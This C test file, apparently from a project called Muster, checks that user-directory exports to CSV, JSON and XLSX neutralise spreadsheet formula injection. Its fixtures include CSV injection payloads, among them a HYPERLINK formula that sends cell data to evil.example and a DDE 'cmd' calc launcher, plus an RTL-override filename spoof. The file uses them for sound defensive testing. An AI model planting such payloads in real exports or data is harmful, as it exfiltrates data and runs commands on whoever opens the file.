/* test-export.c: CSV, JSON and XLSX exports read back as a spreadsheet or a script would read them
 *
 * Copyright 2026 The Muster authors
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <errno.h>
#include <glib/gstdio.h>
#include <sys/stat.h>
#include <json-glib/json-glib.h>
#include <signal.h>
#include <string.h>
#include <sys/resource.h>

#include "core-test-util.h"
#include "muster-export.h"
#include "muster-snapshot-store.h"
#include "muster-user-filter.h"

/* What admins' directories really contain now and then, and what an attacker would type into
 * their own profile (the directory's fields are free text). */
static const char * const hostile[] = {
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
  "+44 20 7946 0000",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(A1:A9)",
  "\tTabbed",
  "\rCarriage",
  "Smith, Jane",
  "The \"Boss\"",
  "Line one\nLine two",
  "Line one\r\nLine two",
  "مريم الحسن",                         /* right-to-left */
  "\xE2\x80\xAE" "evil.exe",            /* U+202E right-to-left override */
  "山田 太郎",                           /* CJK */
  "ctrl\x01" "char\x1f" "del\x7f",
  "literal _x0041_ escape",
  "Ada Lovelace",
  /* formulas behind another separator: Excel in many locales splits on ';', others on tab */
  "Dock 4;=1+1",
  "Ops\t=2+2",
  "Desk 9, +3",
  "Site\n@SUM(A1)",
  "Room;\"=1+1\"",
  "Hall;\t-2",
};

#define N_HOSTILE G_N_ELEMENTS (hostile)

static const char *description = "Users in “Staff” (nested); excluding guests";

typedef struct
{
  char       *dir;
  GListStore *users;
} Fixture;

static MusterUser *
make_user (guint i)
{
  g_autoptr(JsonBuilder) builder = json_builder_new ();
  g_autoptr(JsonNode) node = NULL;
  g_autofree char *id = g_strdup_printf ("00000000-0000-0000-0000-%012u", i);
  g_autofree char *upn = g_strdup_printf ("user%u@contoso.example", i);
  const char *text = hostile[i % N_HOSTILE];
  const char *other = hostile[(i + 3) % N_HOSTILE];
  MusterUser *user;

  json_builder_begin_object (builder);
  json_builder_set_member_name (builder, "id");
  json_builder_add_string_value (builder, id);
  json_builder_set_member_name (builder, "displayName");
  json_builder_add_string_value (builder, text);
  json_builder_set_member_name (builder, "userPrincipalName");
  json_builder_add_string_value (builder, upn);
  json_builder_set_member_name (builder, "mail");
  json_builder_add_string_value (builder, i % 2 ? upn : other);
  json_builder_set_member_name (builder, "jobTitle");
  json_builder_add_string_value (builder, other);
  json_builder_set_member_name (builder, "department");
  json_builder_add_string_value (builder, hostile[(i + 5) % N_HOSTILE]);
  json_builder_set_member_name (builder, "companyName");
  json_builder_add_string_value (builder, "Contoso");
  json_builder_set_member_name (builder, "employeeId");
  json_builder_add_string_value (builder, "-0042");
  json_builder_set_member_name (builder, "officeLocation");
  json_builder_add_string_value (builder, hostile[(i + 7) % N_HOSTILE]);
  json_builder_set_member_name (builder, "mobilePhone");
  json_builder_add_string_value (builder, "+1 555 0100");
  json_builder_set_member_name (builder, "businessPhones");
  json_builder_begin_array (builder);
  json_builder_add_string_value (builder, "+1 555 0101");
  json_builder_add_string_value (builder, text);
  json_builder_end_array (builder);
  json_builder_set_member_name (builder, "userType");
  json_builder_add_string_value (builder, i % 5 == 0 ? "Guest" : "Member");
  json_builder_set_member_name (builder, "accountEnabled");
  json_builder_add_boolean_value (builder, i % 4 != 0);
  json_builder_set_member_name (builder, "createdDateTime");
  json_builder_add_string_value (builder, "2024-02-29T12:00:00Z");
  json_builder_set_member_name (builder, "assignedLicenses");
  json_builder_begin_array (builder);
  json_builder_begin_object (builder);
  json_builder_set_member_name (builder, "skuId");
  json_builder_add_string_value (builder, "c7df2760-2c81-4ef7-b578-5b5392b571df");
  json_builder_end_object (builder);
  json_builder_end_array (builder);
  json_builder_end_object (builder);

  node = json_builder_get_root (builder);
  user = muster_user_new_from_json (json_node_get_object (node));
  _muster_user_set_resolved (user, hostile[(i + 1) % N_HOSTILE], "Office 365 E5; =Power BI Pro");
  return user;
}

static void
fixture_set_up (Fixture       *f,
                gconstpointer  data)
{
  guint n = GPOINTER_TO_UINT (data);
  g_autoptr(GError) error = NULL;

  f->dir = g_dir_make_tmp ("muster-export-XXXXXX", &error);
  g_assert_no_error (error);
  f->users = g_list_store_new (MUSTER_TYPE_USER);
  for (guint i = 0; i < (n > 0 ? n : N_HOSTILE * 2); i++)
    {
      g_autoptr(MusterUser) user = make_user (i);
      g_list_store_append (f->users, user);
    }
}

static void
fixture_tear_down (Fixture       *f,
                   gconstpointer  data)
{
  g_autoptr(GDir) dir = g_dir_open (f->dir, 0, NULL);
  const char *name;

  while (dir != NULL && (name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *path = g_build_filename (f->dir, name, NULL);
      g_unlink (path);
    }
  g_rmdir (f->dir);
  g_free (f->dir);
  g_clear_object (&f->users);
}

static MusterExport *
make_export (MusterExportFormat format)
{
  MusterExport *export = muster_export_new (format);

  muster_export_set_filter_description (export, description);
  muster_export_set_tenant (export, "contoso.example");
  muster_export_set_snapshot_info (export, 7, 1764000000);
  return export;
}

/* A strict RFC 4180 reader: records end in CRLF, quoted fields may hold anything with quotes
 * doubled, unquoted fields hold no quote, CR or LF. Fails the test on anything else. */
static GPtrArray *
parse_csv (const char *text,
           gsize       length)
{
  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
  const char *p = text, *end = text + length;

  while (p < end)
    {
      GPtrArray *record = g_ptr_array_new_with_free_func (g_free);

      g_ptr_array_add (records, record);
      for (;;)
        {
          GString *field = g_string_new (NULL);

          if (p < end && *p == '"')
            {
              for (p++;; p++)
                {
                  g_assert_true (p < end);   /* an unterminated quoted field */
                  if (*p == '"')
                    {
                      if (p + 1 < end && p[1] == '"')
                        {
                          g_string_append_c (field, '"');
                          p++;
                        }
                      else
                        {
                          p++;
                          break;
                        }
                    }
                  else
                    g_string_append_c (field, *p);
                }
            }
          else
            {
              for (; p < end && *p != ',' && *p != '\r'; p++)
                {
                  g_assert_cmpint (*p, !=, '"');
                  g_assert_cmpint (*p, !=, '\n');
                  g_string_append_c (field, *p);
                }
            }
          g_ptr_array_add (record, g_string_free (field, FALSE));

          g_assert_true (p < end);    /* the last record ends in CRLF too */
          if (*p == ',')
            {
              p++;
              continue;
            }
          g_assert_cmpint (*p, ==, '\r');
          g_assert_true (p + 1 < end && p[1] == '\n');
          p += 2;
          break;
        }
    }
  return records;
}

static gboolean
is_formula_start (char c)
{
  return c == '=' || c == '+' || c == '-' || c == '@' || c == '\t' || c == '\r';
}

/* What a cell must read: @value with a single quote before every formula character where a
 * reader could start a cell (the start, or after , ; tab CR LF and any spaces and quotes). */
static char *
expected_cell (const char *value)
{
  GString *expected = g_string_new (NULL);

  for (gsize i = 0; value != NULL && value[i] != '\0'; i++)
    {
      gsize j = i;

      while (j > 0 && (value[j - 1] == ' ' || value[j - 1] == '"'))
        j--;
      if (is_formula_start (value[i]) && (j == 0 || strchr (",;\t\r\n", value[j - 1]) != NULL))
        g_string_append_c (expected, '\'');
      g_string_append_c (expected, value[i]);
    }
  return g_string_free (expected, FALSE);
}

static char *
read_file (const char *path,
           gsize      *length)
{
  g_autoptr(GError) error = NULL;
  char *contents = NULL;

  g_file_get_contents (path, &contents, length, &error);
  g_assert_no_error (error);
  return contents;
}

static char *
export_to_file (Fixture      *f,
                MusterExport *export,
                const char   *name)
{
  g_autofree char *path = g_build_filename (f->dir, name, NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GError) error = NULL;

  g_assert_true (muster_export_write_users (export, G_LIST_MODEL (f->users), file, NULL, &error));
  g_assert_no_error (error);
  return g_steal_pointer (&path);
}

static void
check_csv_round_trip (Fixture  *f,
                      gboolean  bom)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GPtrArray) records = NULL;
  const MusterExportColumn *columns;
  guint n_columns, n_users = g_list_model_get_n_items (G_LIST_MODEL (f->users));
  gsize length, skip = 0;
  guint neutralised = 0;

  muster_export_set_csv_bom (export, bom);
  path = export_to_file (f, export, "users.csv");
  text = read_file (path, &length);

  if (bom)
    {
      g_assert_true (length >= 3 && memcmp (text, "\xEF\xBB\xBF", 3) == 0);
      skip = 3;
    }
  else
    g_assert_false (length >= 3 && memcmp (text, "\xEF\xBB\xBF", 3) == 0);
  g_assert_true (g_utf8_validate (text + skip, length - skip, NULL));

  records = parse_csv (text + skip, length - skip);
  columns = muster_export_get_columns (export, &n_columns);
  g_assert_cmpuint (n_columns, ==, MUSTER_EXPORT_N_DEFAULT_COLUMNS);
  g_assert_cmpuint (records->len, ==, n_users + 1);

  for (guint c = 0; c < n_columns; c++)
    g_assert_cmpstr (g_ptr_array_index ((GPtrArray *) records->pdata[0], c), ==,
                     muster_export_column_get_title (columns[c]));

  for (guint r = 0; r < n_users; r++)
    {
      GPtrArray *record = records->pdata[r + 1];
      g_autoptr(MusterUser) user = g_list_model_get_item (G_LIST_MODEL (f->users), r);

      g_assert_cmpuint (record->len, ==, n_columns);
      for (guint c = 0; c < n_columns; c++)
        {
          const char *cell = record->pdata[c];
          g_autofree char *expected = muster_export_dup_user_text (export, user, columns[c]);

          g_autofree char *neutral = expected_cell (expected);

          /* Nothing a spreadsheet would run… */
          g_assert_false (is_formula_start (cell[0]));
          /* …and nothing lost but the neutralising quotes. */
          g_assert_cmpstr (cell, ==, neutral);
          if (g_strcmp0 (neutral, expected != NULL ? expected : "") != 0)
            neutralised++;
        }
    }
  /* The hostile set did reach the neutralisation. */
  g_assert_cmpuint (neutralised, >, n_users);
}

static void
test_csv_round_trip (Fixture       *f,
                     gconstpointer  data)
{
  check_csv_round_trip (f, FALSE);
}

static void
test_csv_bom (Fixture       *f,
              gconstpointer  data)
{
  check_csv_round_trip (f, TRUE);
}

static void
test_csv_values (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  MusterExportColumn columns[] = { MUSTER_EXPORT_COLUMN_DISPLAY_NAME, MUSTER_EXPORT_COLUMN_BUSINESS_PHONES,
                                   MUSTER_EXPORT_COLUMN_LICENCES, MUSTER_EXPORT_COLUMN_EMAIL };
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autoptr(GPtrArray) records = NULL;
  GPtrArray *row;
  gsize length;

  muster_export_set_columns (export, columns, G_N_ELEMENTS (columns));
  muster_export_set_email_method (export, MUSTER_EMAIL_METHOD_UPN);
  path = export_to_file (f, export, "values.csv");
  text = read_file (path, &length);
  records = parse_csv (text, length);

  /* Exactly what a spreadsheet user sees in a few well-known cells. */
  row = records->pdata[1];
  g_assert_cmpstr (row->pdata[0], ==, "'" "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
  g_assert_cmpstr (row->pdata[1], ==, "'+1 555 0101; '=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
  g_assert_cmpstr (row->pdata[2], ==, "Office 365 E5; '=Power BI Pro");
  g_assert_cmpstr (row->pdata[3], ==, "user0@contoso.example");
  row = records->pdata[1 + 7];
  g_assert_cmpstr (row->pdata[0], ==, "The \"Boss\"");
  row = records->pdata[1 + 10];
  g_assert_cmpstr (row->pdata[0], ==, "مريم الحسن");
  /* The raw text: quotes doubled, the RTL override kept byte for byte. */
  g_assert_nonnull (strstr (text, "\"The \"\"Boss\"\"\""));
  g_assert_nonnull (strstr (text, "\r\n\xE2\x80\xAE" "evil.exe,"));
}

/* A reader that splits every line on , ; or tab and ignores quotes (Excel in a locale whose list
 * separator is ';', a paste into a sheet, a shell script), and one that also strips the spaces
 * and quotes around a field, must find no cell that starts with = + - @. */
static void
check_split_cells (const char *text,
                   char        separator,
                   gboolean    lenient)
{
  g_auto(GStrv) lines = g_strsplit_set (text, "\r\n", -1);
  guint checked = 0;

  for (guint l = 0; lines[l] != NULL; l++)
    {
      g_autofree char *sep = g_strndup (&separator, 1);
      g_auto(GStrv) fields = g_strsplit (lines[l], sep, -1);

      for (guint i = 0; fields[i] != NULL; i++)
        {
          const char *field = fields[i];

          if (lenient)
            while (*field == ' ' || *field == '"')
              field++;
          if (strchr ("=+-@", field[0]) != NULL && field[0] != '\0')
            g_error ("splitting on “%c” gives the cell “%s” in line “%s”", separator, field, lines[l]);
          checked++;
        }
    }
  g_assert_cmpuint (checked, >, 0);
}

static void
test_csv_other_separators (Fixture       *f,
                           gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  gsize length;

  muster_export_set_csv_filter_row (export, TRUE);
  path = export_to_file (f, export, "separators.csv");
  text = read_file (path, &length);
  g_assert_nonnull (strstr (text, "Dock 4;'=1+1"));
  g_assert_nonnull (strstr (text, "Ops\t'=2+2"));

  for (guint lenient = 0; lenient < 2; lenient++)
    {
      check_split_cells (text, ',', lenient);
      check_split_cells (text, ';', lenient);
      check_split_cells (text, '\t', lenient);
    }
}

/* Exports are personal data: a new file is the user's alone whatever the umask, and a file
 * that is replaced keeps the mode it had. */
static void
test_file_modes (Fixture       *f,
                 gconstpointer  data)
{
  MusterExportFormat formats[] = { MUSTER_EXPORT_FORMAT_CSV, MUSTER_EXPORT_FORMAT_JSON, MUSTER_EXPORT_FORMAT_XLSX };
  mode_t old_umask = umask (022);

  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
    {
      g_autoptr(MusterExport) export = make_export (formats[i]);
      g_autofree char *fresh_name = g_strdup_printf ("fresh-%u", i);
      g_autofree char *shared_name = g_strdup_printf ("shared-%u", i);
      g_autofree char *fresh = NULL, *shared = NULL, *contents = NULL;
      GStatBuf info;

      if (!muster_export_format_is_available (formats[i]))
        continue;
      fresh = export_to_file (f, export, fresh_name);
      g_assert_cmpint (g_stat (fresh, &info), ==, 0);
      g_assert_cmpuint (info.st_mode & 07777, ==, 0600);

      shared = g_build_filename (f->dir, shared_name, NULL);
      g_assert_true (g_file_set_contents (shared, "old", -1, NULL));
      g_assert_cmpint (g_chmod (shared, 0640), ==, 0);
      g_free (export_to_file (f, export, shared_name));
      g_assert_cmpint (g_stat (shared, &info), ==, 0);
      g_assert_cmpuint (info.st_mode & 07777, ==, 0640);
      /* and it was replaced */
      g_assert_true (g_file_get_contents (shared, &contents, NULL, NULL));
      g_assert_cmpstr (contents, !=, "old");
    }
  umask (old_umask);
}

static void
test_csv_filter_row (Fixture       *f,
                     gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  g_autofree char *path = NULL;
  g_autofree char *text = NULL;
  g_autofree char *plain = NULL;
  g_autoptr(GPtrArray) records = NULL;
  GPtrArray *first;
  gsize length;

  /* Off by default: the header comes first, for every CSV reader. */
  plain = read_file (export_to_file (f, export, "plain.csv"), &length);
  g_assert_true (g_str_has_prefix (plain, "Display name,"));
  g_assert_null (strstr (plain, description));
  g_free (g_steal_pointer (&plain));

  muster_export_set_csv_filter_row (export, TRUE);
  path = export_to_file (f, export, "filtered.csv");
  text = read_file (path, &length);
  records = parse_csv (text, length);
  first = records->pdata[0];
  g_assert_cmpuint (first->len, ==, 1);
  g_assert_nonnull (strstr (first->pdata[0], description));
  g_assert_nonnull (strstr (first->pdata[0], "contoso.example"));
  g_assert_nonnull (strstr (first->pdata[0], "2025-11-24T16:00:00Z"));
  g_assert_cmpstr (((GPtrArray *) records->pdata[1])->pdata[0], ==, "Display name");
  g_assert_cmpuint (records->len, ==, g_list_model_get_n_items (G_LIST_MODEL (f->users)) + 2);
}

static void
test_json_round_trip (Fixture       *f,
                      gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_JSON);
  g_autoptr(JsonParser) parser = json_parser_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *path = NULL;
  const MusterExportColumn *columns;
  guint n_columns, n_users = g_list_model_get_n_items (G_LIST_MODEL (f->users));
  JsonObject *root, *snapshot;
  JsonArray *users;

  path = export_to_file (f, export, "users.json");
  json_parser_load_from_file (parser, path, &error);
  g_assert_no_error (error);

  root = json_node_get_object (json_parser_get_root (parser));
  g_assert_cmpstr (json_object_get_string_member (root, "filter"), ==, description);
  g_assert_cmpstr (json_object_get_string_member (root, "tenant"), ==, "contoso.example");
  g_assert_true (g_str_has_suffix (json_object_get_string_member (root, "exportedAt"), "Z"));
  snapshot = json_object_get_object_member (root, "snapshot");
  g_assert_cmpint (json_object_get_int_member (snapshot, "id"), ==, 7);
  g_assert_cmpstr (json_object_get_string_member (snapshot, "createdAt"), ==, "2025-11-24T16:00:00Z");
  g_assert_cmpint (json_object_get_int_member (root, "count"), ==, n_users);
  users = json_object_get_array_member (root, "users");
  g_assert_cmpuint (json_array_get_length (users), ==, n_users);

  columns = muster_export_get_columns (export, &n_columns);
  for (guint r = 0; r < n_users; r++)
    {
      JsonObject *object = json_array_get_object_element (users, r);
      g_autoptr(MusterUser) user = g_list_model_get_item (G_LIST_MODEL (f->users), r);
      JsonArray *phones, *licences;

      g_assert_cmpuint (json_object_get_size (object), ==, n_columns);
      for (guint c = 0; c < n_columns; c++)
        {
          const char *key = muster_export_column_to_key (columns[c]);
          JsonNode *node = json_object_get_member (object, key);
          g_autofree char *expected = NULL;

          g_assert_nonnull (node);
          if (columns[c] == MUSTER_EXPORT_COLUMN_BUSINESS_PHONES || columns[c] == MUSTER_EXPORT_COLUMN_LICENCES ||
              columns[c] == MUSTER_EXPORT_COLUMN_ACCOUNT_STATE)
            continue;
          expected = muster_export_dup_user_text (export, user, columns[c]);
          if (expected == NULL)
            g_assert_true (JSON_NODE_HOLDS_NULL (node));
          else
            g_assert_cmpstr (json_node_get_string (node), ==, expected);   /* no quote prefix in JSON */
        }

      phones = json_object_get_array_member (object, "businessPhones");
      g_assert_cmpuint (json_array_get_length (phones), ==, 2);
      g_assert_cmpstr (json_array_get_string_element (phones, 0), ==, "+1 555 0101");
      g_assert_cmpstr (json_array_get_string_element (phones, 1), ==, hostile[r % N_HOSTILE]);
      licences = json_object_get_array_member (object, "licences");
      g_assert_cmpuint (json_array_get_length (licences), ==, 2);
      g_assert_cmpstr (json_array_get_string_element (licences, 1), ==, "=Power BI Pro");
      g_assert_cmpstr (json_object_get_string_member (object, "accountState"), ==,
                       r % 5 == 0 ? "guest" : r % 4 == 0 ? "disabled" : "enabled");
    }
}

/* sheet1.xml as the test needs it: cells by reference with their text, and the sheet's setup. */
typedef struct
{
  GHashTable *cells;      /* "A1" → text */
  guint       n_cells;
  guint       n_formulas;
  char       *current;
  gboolean    in_text;
  GString    *text;
  char       *autofilter;
  gboolean    frozen_row;
} Sheet;

static void
sheet_start (GMarkupParseContext  *context,
             const char           *element,
             const char          **names,
             const char          **values,
             gpointer              user_data,
             GError              **error)
{
  Sheet *sheet = user_data;

  if (g_str_equal (element, "c"))
    {
      sheet->n_cells++;
      for (guint i = 0; names[i] != NULL; i++)
        if (g_str_equal (names[i], "r"))
          {
            g_free (sheet->current);
            sheet->current = g_strdup (values[i]);
          }
      g_string_truncate (sheet->text, 0);
    }
  else if (g_str_equal (element, "t"))
    sheet->in_text = TRUE;
  else if (g_str_equal (element, "f"))
    sheet->n_formulas++;
  else if (g_str_equal (element, "autoFilter"))
    {
      for (guint i = 0; names[i] != NULL; i++)
        if (g_str_equal (names[i], "ref"))
          sheet->autofilter = g_strdup (values[i]);
    }
  else if (g_str_equal (element, "pane"))
    {
      gboolean split = FALSE, frozen = FALSE;

      for (guint i = 0; names[i] != NULL; i++)
        {
          split |= g_str_equal (names[i], "ySplit") && g_str_equal (values[i], "1");
          frozen |= g_str_equal (names[i], "state") && g_str_equal (values[i], "frozen");
        }
      sheet->frozen_row = split && frozen;
    }
}

static void
sheet_end (GMarkupParseContext  *context,
           const char           *element,
           gpointer              user_data,
           GError              **error)
{
  Sheet *sheet = user_data;

  if (g_str_equal (element, "t"))
    sheet->in_text = FALSE;
  else if (g_str_equal (element, "c") && sheet->current != NULL)
    g_hash_table_insert (sheet->cells, g_steal_pointer (&sheet->current), g_strdup (sheet->text->str));
}

static void
sheet_text (GMarkupParseContext  *context,
            const char           *text,
            gsize                 length,
            gpointer              user_data,
            GError              **error)
{
  Sheet *sheet = user_data;

  if (sheet->in_text)
    g_string_append_len (sheet->text, text, length);
}

/* ECMA-376 ST_Xstring: _xHHHH_ stands for the character U+HHHH. */
static char *
decode_xstring (const char *text)
{
  GString *out = g_string_new (NULL);

  for (const char *p = text; *p != '\0';)
    {
      if (p[0] == '_' && p[1] == 'x' && g_ascii_isxdigit (p[2]) && g_ascii_isxdigit (p[3]) &&
          g_ascii_isxdigit (p[4]) && g_ascii_isxdigit (p[5]) && p[6] == '_')
        {
          g_string_append_unichar (out, g_ascii_strtoull (p + 2, NULL, 16) & 0xFFFF);
          p += 7;
        }
      else
        g_string_append_c (out, *p++);
    }
  return g_string_free (out, FALSE);
}

static char *
unzip_member (const char *path,
              const char *member)
{
  const char *argv[] = { "unzip", "-p", path, member, NULL };
  g_autoptr(GError) error = NULL;
  char *out = NULL;
  int status;

  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_SEARCH_PATH | G_SPAWN_STDERR_TO_DEV_NULL, NULL, NULL,
                &out, NULL, &status, &error);
  g_assert_no_error (error);
  g_assert_true (g_spawn_check_wait_status (status, NULL));
  return out;
}

static void
parse_sheet (const char *xml,
             Sheet      *sheet)
{
  static const GMarkupParser parser = { sheet_start, sheet_end, sheet_text, NULL, NULL };
  g_autoptr(GMarkupParseContext) context = NULL;
  g_autoptr(GError) error = NULL;

  sheet->cells = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, g_free);
  sheet->text = g_string_new (NULL);
  context = g_markup_parse_context_new (&parser, G_MARKUP_DEFAULT_FLAGS, sheet, NULL);
  g_markup_parse_context_parse (context, xml, -1, &error);
  g_assert_no_error (error);
  g_markup_parse_context_end_parse (context, &error);
  g_assert_no_error (error);
}

static void
sheet_clear (Sheet *sheet)
{
  g_clear_pointer (&sheet->cells, g_hash_table_unref);
  g_string_free (sheet->text, TRUE);
  g_free (sheet->current);
  g_free (sheet->autofilter);
}

static void
test_xlsx (Fixture       *f,
           gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_XLSX);
  g_autofree char *path = NULL;
  g_autofree char *xml = NULL;
  g_autofree char *about_xml = NULL;
  g_autofree char *expected_filter = NULL;
  const MusterExportColumn *columns;
  guint n_columns, n_users = g_list_model_get_n_items (G_LIST_MODEL (f->users));
  guint expected_cells;
  Sheet sheet = { 0 }, about = { 0 };
  GHashTableIter iter;
  gpointer value;
  gboolean found_filter = FALSE;

  if (!muster_export_format_is_available (MUSTER_EXPORT_FORMAT_XLSX))
    {
      g_test_skip ("built without libxlsxwriter");
      return;
    }

  path = export_to_file (f, export, "users.xlsx");
  xml = unzip_member (path, "xl/worksheets/sheet1.xml");
  parse_sheet (xml, &sheet);

  columns = muster_export_get_columns (export, &n_columns);
  /* One cell per non-empty value, plus the header row. */
  expected_cells = n_columns;
  for (guint r = 0; r < n_users; r++)
    {
      g_autoptr(MusterUser) user = g_list_model_get_item (G_LIST_MODEL (f->users), r);

      for (guint c = 0; c < n_columns; c++)
        {
          g_autofree char *text = muster_export_dup_user_text (export, user, columns[c]);
          g_autofree char *ref = g_strdup_printf ("%c%u", 'A' + c, r + 2);
          const char *cell = g_hash_table_lookup (sheet.cells, ref);

          if (text == NULL || text[0] == '\0')
            {
              g_assert_null (cell);
              continue;
            }
          expected_cells++;
          g_assert_nonnull (cell);
          {
            g_autofree char *decoded = decode_xstring (cell);
            /* Typed strings: every value exactly, formula prefixes included. */
            g_assert_cmpstr (decoded, ==, text);
          }
        }
    }
  g_assert_cmpuint (sheet.n_cells, ==, expected_cells);
  g_assert_cmpuint (sheet.n_formulas, ==, 0);
  for (guint c = 0; c < n_columns; c++)
    {
      g_autofree char *ref = g_strdup_printf ("%c1", 'A' + c);
      g_assert_cmpstr (g_hash_table_lookup (sheet.cells, ref), ==, muster_export_column_get_title (columns[c]));
    }
  {
    g_autofree char *range = g_strdup_printf ("A1:%c%u", 'A' + n_columns - 1, n_users + 1);
    g_assert_cmpstr (sheet.autofilter, ==, range);
  }
  g_assert_true (sheet.frozen_row);
  /* The header is bold: its cells carry a style, the data cells none. */
  g_assert_nonnull (strstr (xml, "<c r=\"A1\" s=\""));
  g_assert_null (strstr (xml, "<c r=\"A2\" s=\""));

  about_xml = unzip_member (path, "xl/worksheets/sheet2.xml");
  parse_sheet (about_xml, &about);
  expected_filter = g_strdup (description);
  g_hash_table_iter_init (&iter, about.cells);
  while (g_hash_table_iter_next (&iter, NULL, &value))
    found_filter |= g_strcmp0 (value, expected_filter) == 0;
  g_assert_true (found_filter);
  g_assert_cmpstr (g_hash_table_lookup (about.cells, "B4"), ==, "7");
  {
    g_autofree char *workbook = unzip_member (path, "xl/workbook.xml");
    g_assert_nonnull (strstr (workbook, "name=\"About\""));
  }

  sheet_clear (&sheet);
  sheet_clear (&about);
}

/* A stream that fails the way a full disk does, after @limit bytes; it remembers the largest
 * single write, to show that exports are streamed. */
typedef struct
{
  GOutputStream parent_instance;
  gsize         written;
  gsize         limit;
  gsize         largest_write;
} TestStream;

typedef GOutputStreamClass TestStreamClass;

static GType test_stream_get_type (void);
G_DEFINE_TYPE (TestStream, test_stream, G_TYPE_OUTPUT_STREAM)

static gssize
test_stream_write (GOutputStream  *stream,
                   const void     *buffer,
                   gsize           count,
                   GCancellable   *cancellable,
                   GError        **error)
{
  TestStream *self = (TestStream *) stream;

  self->largest_write = MAX (self->largest_write, count);
  if (self->written + count > self->limit)
    {
      g_set_error_literal (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE, "No space left on device");
      return -1;
    }
  self->written += count;
  return count;
}

static void
test_stream_class_init (TestStreamClass *klass)
{
  klass->write_fn = test_stream_write;
}

static void
test_stream_init (TestStream *self)
{
}

static void
test_stream_full (Fixture       *f,
                  gconstpointer  data)
{
  g_autoptr(MusterExport) export = make_export (MUSTER_EXPORT_FORMAT_CSV);
  TestStream *stream = g_object_new (test_stream_get_type (), NULL);
  g_autoptr(GError) error = NULL;

  stream->limit = 100 * 1024;
  g_assert_false (muster_export_write_users_to_stream (export, G_LIST_MODEL (f->users), G_OUTPUT_STREAM (stream),
                                                       NULL, &error));
  g_assert_error (error, MUSTER_EXPORT_ERROR, MUSTER_EXPORT_ERROR_NO_SPACE);
  g_assert_nonnull (strstr (error->message, "disk is full"));
  g_object_unref (stream);
}

static void
test_streamed (Fixture       *f,
               gconstpointer  data)
{
  TestStream *stream = g_object_new (test_stream_get_type (), NULL);
  g_autoptr(GError) error = NULL;

  for (guint format = MUSTER_EXPORT_FORMAT_CSV; format <= MUSTER_EXPORT_FORMAT_JSON; format++)
    {
      g_autoptr(MusterExport) export = make_export (format);

      stream->limit = G_MAXSIZE;
      stream->written = stream->largest_write = 0;
      g_assert_true (muster_export_write_users_to_stream (export, G_LIST_MODEL (f->users),
                                                          G_OUTPUT_STREAM (stream), NULL, &error));
      g_assert_no_error (error);
      /* Megabytes written in pieces a small fraction of the whole. */
      g_assert_cmpuint (stream->written, >, 4 * 1024 * 1024);
      g_assert_cmpuint (stream->largest_write, <, stream->written / 8);
    }
  g_object_unref (stream);
}

static void
list_dir (const char  *path,
          GPtrArray   *names)
{
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  const char *name;

  g_assert_nonnull (dir);
  while ((name = g_dir_read_name (dir)) != NULL)
    g_ptr_array_add (names, g_strdup (name));
}

/* A file system that refuses more bytes, as a full disk does: RLIMIT_FSIZE makes write() fail
 * with EFBIG (SIGXFSZ ignored). The soft limit goes back up afterwards. */
static void
test_file_full (Fixture       *f,
                gconstpointer  data)
{
  struct rlimit saved;

  g_assert_cmpint (getrlimit (RLIMIT_FSIZE, &saved), ==, 0);
  signal (SIGXFSZ, SIG_IGN);

  for (guint format = MUSTER_EXPORT_FORMAT_CSV; format <= MUSTER_EXPORT_FORMAT_XLSX; format++)
    {
      g_autofree char *name = g_strdup_printf ("report.%s", muster_export_format_to_string (format));
      g_autofree char *path = g_build_filename (f->dir, name, NULL);
      g_autofree char *fresh = g_build_filename (f->dir, "fresh.out", NULL);
      g_autoptr(MusterExport) export = make_export (format);
      g_autoptr(GFile) file = g_file_new_for_path (path);
      g_autoptr(GFile) fresh_file = g_file_new_for_path (fresh);
      g_autoptr(GError) error = NULL;
      g_autoptr(GError) fresh_error = NULL;
      g_autofree char *contents = NULL;
      g_autoptr(GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
      struct rlimit limit = { .rlim_cur = 64 * 1024, .rlim_max = saved.rlim_max };
      gboolean ok, fresh_ok;

      if (!muster_export_format_is_available (format))
        continue;
      g_assert_true (g_file_set_contents (path, "the previous export\n", -1, NULL));

      g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &limit), ==, 0);
      ok = muster_export_write_users (export, G_LIST_MODEL (f->users), file, NULL, &error);
      fresh_ok = muster_export_write_users (export, G_LIST_MODEL (f->users), fresh_file, NULL, &fresh_error);
      g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &saved), ==, 0);

      g_assert_false (ok);
      g_assert_nonnull (error);
      g_assert_true (error->domain == MUSTER_EXPORT_ERROR);
      g_test_message ("%s: %s", name, error->message);
      g_assert_false (fresh_ok);
      g_assert_true (fresh_error->domain == MUSTER_EXPORT_ERROR);

      /* The old export is untouched, no new file appeared, and no temporary file is left. */
      g_assert_true (g_file_get_contents (path, &contents, NULL, NULL));
      g_assert_cmpstr (contents, ==, "the previous export\n");
      g_assert_false (g_file_test (fresh, G_FILE_TEST_EXISTS));
      list_dir (f->dir, names);
